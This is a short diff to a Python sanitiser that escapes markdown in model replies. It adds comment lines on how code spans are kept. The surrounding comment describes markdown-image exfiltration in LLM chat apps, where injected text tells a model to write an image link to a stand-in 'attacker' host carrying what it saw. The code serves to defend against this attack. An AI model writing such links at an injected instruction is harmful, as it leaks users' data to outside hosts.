@@ -96,6 +96,8 @@ def inert_markdown_keeping(text: Any, ids: list[str]) -> str:
 # or autolink: a sample the model read can tell it to write `![](https://attacker/?q=<what it saw>)`, and
 # the browser would fetch it (the markdown-image exfiltration of LLM chat apps). Outside code, `\`, `[`,
 # `]` and `<` are escaped; code (fenced blocks from a line's start, one-line spans) renders nothing anyway.
+# Whatever this takes for prose is escaped, the safe side of a doubt; a span it takes for code after a
+# backslash stays code, as that backslash is itself escaped.
 _REPLY_CODE = re.compile(r"(^ {0,3}(`{3,}|~{3,})[^\n]*(?:\n.*?)?(?:\n {0,3}\2[ \t]*(?=\n|\Z)|\Z)|(?<!`)(`+)(?!`)[^\n]+?(?<!`)\3(?!`))",
                          re.MULTILINE | re.DOTALL)
 _REPLY_ACTIVE = re.compile(r"([\\\[\]<])")
